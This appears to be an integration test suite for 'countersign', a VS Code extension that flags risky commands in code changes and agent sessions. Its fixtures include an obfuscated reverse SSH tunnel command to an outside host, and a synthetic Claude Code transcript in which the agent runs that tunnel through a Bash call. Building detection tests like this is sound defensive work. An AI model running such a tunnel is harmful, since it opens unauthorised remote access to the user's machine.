/** A trusted repository with an uncommitted change: see `scripts/vscode/test-windows.mjs`. */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  type CodeAction,
  ConfigurationTarget,
  commands,
  type Diagnostic,
  DiagnosticSeverity,
  extensions,
  type Hover,
  MarkdownString,
  Position,
  Range,
  Selection,
  Uri,
  window,
  workspace,
} from "vscode";
import { commandLine, folder } from "./command-line.ts";
import { closeAll, diagnostics, eventually, open, ours, ruleOf, screenshot, textAt } from "./looking.ts";
import { runMocha } from "./run-mocha.ts";

const rule = "command/reverse-ssh-tunnel";
const tunnel = "s\\sh -fNR 9:localhost:22 agent@203.0.113.7";

export const run = (): Promise<void> =>
  runMocha(() => {
    it("activates without waiting for its server", async () => {
      const extension = extensions.getExtension("countersign.countersign");
      assert.ok(extension);
      await extension.activate();
      assert.equal(extension.isActive, true);
    });

    describe("diagnostics", () => {
      afterEach(closeAll);

      it("mark what the change brings, with range, code and severity, and leave out what was there", async () => {
        const { document } = await open("old.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        assert.equal(textAt(document, found), tunnel);
        assert.equal(ruleOf(found), rule);
        assert.equal(found.severity, DiagnosticSeverity.Error);
        await screenshot("host-squiggle");
      });

      it("mark all of a file that is not yet in git", async () => {
        const { document } = await open("new file.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        assert.equal(textAt(document, found), tunnel);
      });

      it("show all of a file where the setting says so", async () => {
        const { document } = await open("old.sh");
        await diagnostics(document, 1);
        const settings = workspace.getConfiguration("countersign");
        await settings.update("diagnostics.scope", "all", ConfigurationTarget.Global);
        await diagnostics(document, 2);
        await settings.update("diagnostics.scope", undefined, ConfigurationTarget.Global);
        await diagnostics(document, 1);
      });

      it("move with the text, and go when the text goes", async () => {
        const editor = await open("old.sh");
        const [before] = await diagnostics(editor.document, 1);
        await editor.edit((edit) => edit.insert(new Position(1, 0), "echo one\necho two\n"));
        const line = (before?.range.start.line ?? 0) + 2;
        await eventually("the finding two lines further down", () => ours(editor.document).find(({ range }) => range.start.line === line));
        await editor.edit((edit) => edit.delete(new Range(line, 0, line + 1, 0)));
        await diagnostics(editor.document, 0);
      });

      it("come while typing in a text that was never saved", async () => {
        const document = await workspace.openTextDocument({ language: "shellscript", content: "echo\n" });
        const editor = await window.showTextDocument(document);
        await editor.edit((edit) => edit.insert(new Position(1, 0), `${tunnel}\n`));
        await diagnostics(document, 1);
      });
    });

    describe("a finding", () => {
      afterEach(closeAll);

      it("tells on hovering what the rule saw", async () => {
        const { document } = await open("old.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        const hovers = await commands.executeCommand<Hover[]>("vscode.executeHoverProvider", document.uri, found.range.start);
        const text = hovers
          .flatMap(({ contents }) => contents.map((part) => (part instanceof MarkdownString ? part.value : "")))
          .join("\n");
        assert.match(text, /What the rule saw, inside ` timeout `/);
        assert.match(text, /ssh -N -R=9:localhost:22 -f -- agent@203\.0\.113\.7/);
      });

      it("offers to be ignored with a reason, or explained", async () => {
        const { document } = await open("old.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        const offered = await quickFixes(document.uri, found);
        assert.deepEqual(
          offered.map(({ title }) => title),
          [`Ignore ${rule} here, with a reason…`, `Explain ${rule}`],
        );
      });

      it("takes the comment above itself, and stays visible because the change itself asks for silence", async () => {
        const { document } = await open("old.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        const [ignore] = await quickFixes(document.uri, found);
        await commands.executeCommand(ignore?.command?.command ?? "", ...(ignore?.command?.arguments ?? []), "the lab's jump host");
        assert.equal(document.lineAt(found.range.start.line).text, `# countersign-ignore ${rule} -- the lab's jump host`);
        const [left] = await eventually("the finding as ignored in this change", () => {
          const now = ours(document);
          return now[0]?.severity === DiagnosticSeverity.Information ? now : undefined;
        });
        assert.match(left?.message ?? "", /Ignored in this change \(the lab's jump host\)/);
      });

      it("is explained on its rule's page", async () => {
        const { document } = await open("old.sh");
        const [found] = await diagnostics(document, 1);
        assert.ok(found);
        const code = found.code;
        assert.ok(typeof code === "object");
        const page = await workspace.openTextDocument(code.target);
        assert.match(page.getText(), /## Why it matters/);
        await commands.executeCommand("countersign.explainFinding", rule);
        await eventually(
          "the rendered page",
          () => window.tabGroups.activeTabGroup.activeTab?.label.includes("reverse-ssh-tunnel") || undefined,
        );
      });
    });

    describe("commands", () => {
      afterEach(closeAll);

      it("review the change as the command line does, and show both sides of each file", async () => {
        const answer = await commands.executeCommand<Reviewed>("countersign.reviewChanges");
        const told = await commandLine(["review"]);
        assert.equal(told.verdict, "attention");
        assert.equal(answer.verdict, told.verdict);
        assert.deepEqual(answer.findings, told.findings);
        const tab = await eventually("the multi-diff editor", () => window.tabGroups.activeTabGroup.activeTab);
        assert.match(tab.label, /^Review /);
        const base = await eventually("the text at the base", () =>
          workspace.textDocuments.find(({ uri }) => uri.scheme === "countersign-base"),
        );
        assert.equal(base.getText(), "#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\n");
        await screenshot("host-review");
      });

      it("show in open files what the command line calls new, one for one", async () => {
        const told = await commandLine(["review"]);
        const seen: string[] = [];
        for (const path of ["new file.sh", "old.sh"]) {
          const { document } = await open(path);
          const count = told.findings.filter((finding) => finding.path === path && finding.state === "new").length;
          for (const one of await diagnostics(document, count))
            seen.push(`${path}:${one.range.start.line}:${one.range.start.character} ${ruleOf(one)} ${one.message}`);
        }
        const expected = told.findings
          .filter(({ state }) => state === "new")
          .map(({ path, range, rule: id, message }) => `${path}:${range.start.line}:${range.start.character} ${id} ${message}`);
        assert.deepEqual(seen.sort(), expected.sort());
      });

      it("audit a file whole, whatever changed", async () => {
        const { document } = await open("old.sh");
        const answer = await commands.executeCommand<Reviewed>("countersign.auditFile");
        assert.equal(answer.findings.length, 2);
        await diagnostics(document, 2);
        // A review is about the change again.
        await commands.executeCommand("countersign.reviewChanges");
        await diagnostics(document, 1);
      });

      it("audit a selection where it stands", async () => {
        const editor = await open("old.sh");
        editor.selection = new Selection(2, 0, 3, 0);
        const answer = await commands.executeCommand<Reviewed>("countersign.auditSelection");
        assert.deepEqual(
          answer.findings.map(({ range }) => range.start.line),
          [2],
        );
      });

      it("audit the workspace as the command line audits the folder", async () => {
        const answer = await commands.executeCommand<Reviewed>("countersign.auditWorkspace");
        const told = await commandLine(["audit", "."]);
        assert.deepEqual(answer.findings, told.findings);
        assert.equal(answer.findings.length, 3);
      });

      it("audit a session of an agent", async () => {
        const file = join(folder(), "session.jsonl");
        writeFileSync(file, transcript());
        const answer = await commands.executeCommand<Reviewed>("countersign.auditSession", Uri.file(file));
        assert.deepEqual(
          answer.findings.map((finding) => finding.rule),
          [rule],
        );
        await screenshot("host-session");
      });
    });

    describe("what dies", () => {
      afterEach(closeAll);

      it("is reported when a text kills its worker, and other files keep their diagnostics", async () => {
        const deadly = await workspace.openTextDocument({ language: "typescriptreact", content: "<a>(".repeat(20_000) });
        await window.showTextDocument(deadly);
        const [problem] = await eventually(
          "what became of the deadly text",
          () => (ours(deadly).length > 0 ? ours(deadly) : undefined),
          45_000,
        );
        assert.match(problem?.message ?? "", /given up/);
        const { document } = await open("old.sh");
        await diagnostics(document, 1);
      });

      it("is nothing when a text of forty kilobytes is one pipeline", async () => {
        await window.showTextDocument(await workspace.openTextDocument({ language: "shellscript", content: `${"a|".repeat(20_000)}a\n` }));
        const { document } = await open("old.sh");
        await diagnostics(document, 1);
      });
    });
  });

interface Reviewed {
  readonly verdict: string;
  readonly findings: readonly {
    readonly path: string;
    readonly rule: string;
    readonly message: string;
    readonly state?: string;
    readonly range: { readonly start: { readonly line: number; readonly character: number } };
  }[];
}

async function quickFixes(uri: Uri, { range }: Diagnostic): Promise<CodeAction[]> {
  const actions = await commands.executeCommand<CodeAction[]>("vscode.executeCodeActionProvider", uri, range, "quickfix");
  return actions.filter(({ command }) => command?.command.startsWith("countersign."));
}

/** One command that ran, as Claude Code records it. */
function transcript(): string {
  const common = {
    sessionId: "5f1c1c9e-0000-4000-8000-000000000001",
    cwd: "/project",
    version: "2.0.0",
    gitBranch: "main",
    isSidechain: false,
    userType: "external",
  };
  const call = { type: "tool_use", id: "toolu_01", name: "Bash", input: { command: `timeout 5 ${tunnel}`, description: "Connect" } };
  const result = { type: "tool_result", tool_use_id: "toolu_01", content: "", is_error: false };
  const lines = [
    {
      ...common,
      type: "user",
      uuid: "1",
      parentUuid: null,
      timestamp: "2026-01-01T00:00:00.000Z",
      message: { role: "user", content: "Make it fast" },
    },
    {
      ...common,
      type: "assistant",
      uuid: "2",
      parentUuid: "1",
      timestamp: "2026-01-01T00:00:01.000Z",
      message: { role: "assistant", model: "claude", id: "msg_1", content: [call] },
    },
    {
      ...common,
      type: "user",
      uuid: "3",
      parentUuid: "2",
      timestamp: "2026-01-01T00:00:02.000Z",
      message: { role: "user", content: [result] },
      toolUseResult: { stdout: "", stderr: "", interrupted: false, isImage: false },
    },
  ];
  return lines.map((line) => `${JSON.stringify(line)}\n`).join("");
}
